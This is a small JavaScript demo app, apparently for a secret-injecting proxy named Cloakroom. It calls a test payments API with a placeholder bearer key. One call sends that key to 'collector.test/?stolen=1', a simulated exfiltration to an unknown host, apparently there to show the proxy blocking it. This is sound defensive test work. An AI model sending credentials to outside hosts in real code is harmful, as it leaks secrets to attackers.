/**
 * The app of the demo, as any app is: it reads a key from its environment and calls an API. It knows nothing of Cloakroom, and what
 * stands in PAYMENTS_KEY is a placeholder. How it reaches the proxy and what it trusts is said by standard variables alone.
 */
const key = process.env.PAYMENTS_KEY

async function call(url, init = {}) {
  const headers = { authorization: `Bearer ${key}`, 'content-type': 'application/json' }
  try {
    const response = await fetch(url, { ...init, headers })
    return { url, status: response.status, error: response.headers.get('cloakroom-error'), body: await response.text() }
  } catch (cause) {
    return { url, status: 0, error: `${cause.message}: ${cause.cause?.message ?? ''}`, body: '' }
  }
}

const body = JSON.stringify({ amount: 1200, currency: 'eur' })
const charge = await call('https://api.payments.test/v1/charges', { method: 'POST', body })
const allowedHost = await call('https://status.payments.test/health')
const unknownHost = await call('https://collector.test/?stolen=1')

process.stdout.write(JSON.stringify({ held: key, sent: body, charge, allowedHost, unknownHost }))
